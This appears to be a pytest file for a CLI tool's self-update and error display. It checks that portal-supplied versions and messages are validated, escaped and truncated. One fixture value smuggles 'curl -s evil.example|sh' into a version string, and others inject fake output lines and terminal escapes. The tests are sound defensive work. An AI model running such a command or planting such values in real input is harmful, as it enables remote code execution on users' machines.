"""What the portal says reaches a terminal and a copy-paste hint only checked, escaped and of bounded length:
the release index's versions (`version --self-update`) and the portal's error messages."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import requests

import passport_cli
from passport_cli import proxy_socket, self_update
from passport_cli.client import Portal
from passport_cli.errors import CliError, Exit
from passport_cli.main import main
from passport_cli.self_update import Release

# A newline fakes the next CLI line; `;` and `|` would run in the shell of whoever pastes the hint.
FAKE_LINE = "9.9\npassport: passport 0.1.0 -> 9.9 (signature verified)"
SHELL = "9.9;curl -s evil.example|sh"
WHEEL = "passport_portal-9.9-py3-none-any.whl"


def _index(version: str, latest: str | None = None) -> dict[str, Any]:
    release = {"version": version, "filename": WHEEL, "url": f"/cli/releases/{WHEEL}", "sha256": "0" * 64}
    return {"latest": version if latest is None else latest, "releases": [release]}


class IndexPortal:
    base_url = "https://portal.example"

    def __init__(self, body: Any) -> None:
        self.body = body

    def get(self, path: str, params: dict[str, str] | None = None) -> Any:
        return self.body


@pytest.mark.parametrize(
    "version",
    [FAKE_LINE, SHELL, "9 .9", "9.9-1", "9.9/../x", "9.9\x1b[2J", "\u202e9.9", "x9.9", "9." + "9" * 64, ""],
)
def test_the_index_is_refused_when_a_version_is_not_one(version: str) -> None:
    for body in (_index(version), _index("9.9", latest=version or "\n")):
        with pytest.raises(CliError) as refused:
            self_update.fetch_releases(IndexPortal(body))  # type: ignore[arg-type]
        assert refused.value.code == Exit.ERROR
        assert "\n" not in refused.value.message and "\x1b" not in refused.value.message
        assert refused.value.message.startswith("The portal's release index lists ")


@pytest.mark.parametrize("version", ["0.2.0", "1!2.0rc1", "0.1.0+build.7", "V0.3.0.post1"])
def test_the_index_takes_every_version_a_wheel_name_can_carry(version: str) -> None:
    latest, releases = self_update.fetch_releases(IndexPortal(_index(version)))  # type: ignore[arg-type]
    assert latest == releases[0].version == version.lower().removeprefix("v")


@pytest.mark.parametrize("version", [FAKE_LINE, SHELL])
def test_a_version_that_got_past_the_index_is_still_printed_escaped_and_quoted(
    version: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.setenv("PASSPORT_CONFIG_DIR", str(tmp_path))
    monkeypatch.setattr(
        self_update, "fetch_releases", lambda portal: (version, [Release(version, WHEEL, f"/{WHEEL}", "0" * 64)])
    )

    assert main(["version", "--self-update", "--portal", "https://portal.example"]) == Exit.ERROR

    shown, quoted = (text.replace("\n", "\\n") for text in (version, shlex.quote(version)))
    assert capsys.readouterr().err.splitlines() == [
        "passport: reading the published versions at https://portal.example",
        f"passport: The portal's latest version {shown} cannot be compared with this passport "
        f"{passport_cli.__version__} (not PEP 440 versions): not installing it. "
        f"To install it anyway: passport version --self-update --to-version {quoted}",
    ]


def test_a_signature_message_shows_index_values_escaped() -> None:
    release = Release(FAKE_LINE, WHEEL + "\n\x1b[2J", f"/{WHEEL}", "0" * 64)
    with pytest.raises(CliError) as refused:
        self_update.check_signature(release)
    assert "\n" not in refused.value.message and "\x1b" not in refused.value.message
    assert "\\n\\x1b[2J" in refused.value.message


def _answer(status: int, body: Any) -> requests.Response:
    response = requests.Response()
    response.status_code = status
    response._content = json.dumps(body).encode()
    response.headers["Content-Type"] = "application/json"
    return response


@pytest.mark.parametrize(("status", "prefix"), [(400, ""), (404, "Not found: "), (500, "The portal answered 500: ")])
def test_a_long_portal_error_is_cut_short(status: int, prefix: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(requests.Session, "request", lambda *args, **kwargs: _answer(status, {"detail": "x" * 10**6}))
    with pytest.raises(CliError) as refused:
        Portal("http://127.0.0.1:9").get("/api/requests/")
    assert refused.value.message == prefix + "x" * 2000 + "…"
    # Escapes count: what is cut is what would be printed, and no escape is cut in half.
    escapes = {"detail": "a" + "\x1b" * 900}
    monkeypatch.setattr(requests.Session, "request", lambda *args, **kwargs: _answer(status, escapes))
    with pytest.raises(CliError) as escaped:
        Portal("http://127.0.0.1:9").get("/api/requests/")
    assert escaped.value.message == prefix + "a" + "\\x1b" * 499 + "…"
    short = {"detail": "y" * 2000}
    monkeypatch.setattr(requests.Session, "request", lambda *args, **kwargs: _answer(status, short))
    with pytest.raises(CliError) as whole:
        Portal("http://127.0.0.1:9").get("/api/requests/")
    assert whole.value.message == prefix + "y" * 2000


def test_a_long_reason_from_the_portals_ssh_proxy_is_cut_short(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv(proxy_socket.REASON_FILE_ENV, raising=False)
    proxy_socket.say("z" * 10**5 + "\n")
    assert capsys.readouterr().err == "passport: " + "z" * 2000 + "…\r\n"
